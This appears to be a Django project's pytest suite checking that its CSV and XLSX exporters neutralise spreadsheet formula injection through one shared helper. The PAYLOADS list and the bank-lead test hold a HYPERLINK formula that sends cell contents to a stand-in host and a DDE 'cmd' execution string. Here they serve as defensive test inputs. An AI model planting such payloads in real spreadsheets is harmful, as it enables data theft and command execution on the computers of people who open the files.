"""CSV/XLSX formula injection is neutralised in every file the portal writes, by one shared
helper (core.spreadsheets.formula_safe)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from core.spreadsheets import formula_safe, formula_safe_text

PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x/?"&A1)']


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kripik =1", "Kripik =1"),
        ("", ""),
        (15000, 15000),
        (-5, -5),
        (None, None),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr", "inner", "empty", "int", "negative-int", "none"],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


def test_formula_safe_text_for_csv():
    assert formula_safe_text(None) == "" and formula_safe_text(-5) == "'-5" and formula_safe_text("ok") == "ok"


def test_every_exporter_uses_the_shared_helper():
    from core import figures
    from financing import bank_views
    from partners import rows
    from training import documents

    assert rows.neutralise is formula_safe
    assert documents.safe_cell is formula_safe
    assert bank_views.csv_safe is formula_safe_text
    assert figures.csv_safe is formula_safe_text


def _inert(cell) -> bool:
    return not isinstance(cell, str) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_partner_export_and_its_report(file_format):
    """Product and business names are the owner's text: in the listing file and in the report of
    skipped products, every one of them is inert."""
    from partners.exports import export_job_run
    from partners.models import ExportStatus
    from partners.services import export_job_create
    from tests.partners.factories import ChannelListingFactory, channel, delivery_ready_product
    from tests.portal.factories import BusinessFactory

    gofood = channel("gofood")
    for _n, payload in enumerate(PAYLOADS):
        business = BusinessFactory(name=f"{payload} usaha")
        ready = delivery_ready_product(business=business, name=payload, description=payload)
        ChannelListingFactory(product=ready, channel=gofood)
        skipped = delivery_ready_product(business=business, name=f"{payload} tanpa foto")
        skipped.images.all().delete()
        ChannelListingFactory(product=skipped, channel=gofood)
    job = export_job_create(channel=gofood, file_format=file_format, enqueue=False)
    job = export_job_run(job_id=job.pk)
    assert job.status == ExportStatus.DONE, job.error
    with job.file.open("rb") as handle:
        data = handle.read()
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    else:
        rows = [list(r) for r in load_workbook(io.BytesIO(data), read_only=True).active.iter_rows(values_only=True)]
    cells = [cell for row in rows[1:] for cell in row]
    assert job.row_count == len(PAYLOADS)
    assert all(_inert(cell) for cell in cells), [c for c in cells if not _inert(c)]
    names = {cell for cell in cells if isinstance(cell, str)}
    assert "'=1+1" in names and "'@SUM(A1)" in names
    with job.report.open("rb") as handle:
        report = list(csv.reader(io.StringIO(handle.read().decode("utf-8"))))
    report_cells = [cell for row in report[1:] for cell in row]
    assert len(report) - 1 >= len(PAYLOADS)
    assert all(_inert(cell) for cell in report_cells), [c for c in report_cells if not _inert(c)]


@pytest.mark.django_db
def test_bank_lead_csv(client):
    from financing.models import Lead
    from tests.financing.factories import BankOfficerFactory, submit
    from tests.portal.factories import BusinessFactory

    for payload in PAYLOADS:
        submit(BusinessFactory(name=payload), ["kur-mikro"])
    Lead.objects.update(rejection_reason="=cmd|' /C calc'!A0")
    client.force_login(BankOfficerFactory().user)
    response = client.get("/bank/ekspor.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert len(rows) == len(PAYLOADS) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert all(_inert(cell) for cell in cells)
    assert {row[5] for row in rows[1:]} == {"'" + p for p in PAYLOADS}


@pytest.mark.django_db
def test_training_xlsx_exports(client):
    from django.utils import timezone

    from tests.training.factories import RegistrationFactory, SessionFactory, TrainingOfficerFactory
    from training import services

    session = SessionFactory(first_day=timezone.localdate(), capacity=20)
    officer = TrainingOfficerFactory().user
    for payload in PAYLOADS:
        registration = RegistrationFactory(session=session, participant_name=payload, business__name=f"{payload} usaha")
        services.attendance_record(session=session, code=registration.code, day=session.first_day, actor=officer)
    services.certificates_issue(session=session, actor=officer)
    client.force_login(officer)
    for kind in ("peserta", "kehadiran", "sertifikat"):
        response = client.get(f"/admin/pelatihan/kelola/{session.pk}/ekspor/{kind}.xlsx")
        rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
        assert len(rows) == len(PAYLOADS) + 1, kind
        cells = [cell for row in rows[1:] for cell in row]
        assert all(_inert(cell) for cell in cells), (kind, [c for c in cells if not _inert(c)])


def test_dashboard_csv():
    from core.figures import figure_csv

    figure = {"columns": ["=kolom", "jumlah"], "csv_rows": [[p, "<5"] for p in PAYLOADS]}
    rows = list(csv.reader(io.StringIO(figure_csv(figure))))
    assert rows[0] == ["'=kolom", "jumlah"]
    assert [row[0] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert all(row[1] == "<5" for row in rows[1:])
